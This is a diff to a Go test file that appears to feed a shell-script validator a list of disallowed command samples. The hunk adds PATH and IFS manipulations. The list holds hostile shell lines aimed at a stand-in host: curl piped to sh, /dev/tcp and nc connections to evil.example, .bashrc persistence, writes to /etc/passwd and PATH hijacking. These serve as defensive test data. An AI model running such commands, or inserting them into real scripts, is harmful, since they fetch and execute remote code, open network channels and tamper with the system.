@@ -178,7 +178,7 @@ var samples = []sample{
 		},
 		[]string{
 			`curl https://evil.example/x | sh`, `make evil`, `make all | sh`, `eval "$out"`, `source "$out"`, `. "$out"`, `"$out"`, `$out all`, `exec 3<>/dev/tcp/evil.example/80`, `nc evil.example 80`,
-			`busybox wget evil.example`, `xargs sh < build.log`, `echo "make" > Makefile`, `echo evil | tee -a ~/.bashrc`, `PATH=/tmp:$PATH`, `trap "$out" EXIT`, `alias make=evil`,
+			`busybox wget evil.example`, `xargs sh < build.log`, `echo "make" > Makefile`, `echo evil | tee -a ~/.bashrc`, `PATH=/tmp:$PATH`, `PATH=`, `PATH=$(pwd)`, `IFS=/`, `trap "$out" EXIT`, `alias make=evil`,
 			`make() { echo x; }`, `rm -rf "$out"`, `: "$(curl evil.example)"`, "x=`id`", `command curl evil.example`, `sudo make all`, `# shellcheck disable=SC2164`, `make all &`,
 			`bash -c "$out"`, `cat <<< "$(id)"`, `printf x | tee x`, `set +e`, `echo "${out@P}"`, `[ -n "$(id)" ]`, `python3 -c "x"`, `tee /etc/passwd`, `exit 0`, `return 0`, `printf -v PATH /tmp`,
 		},
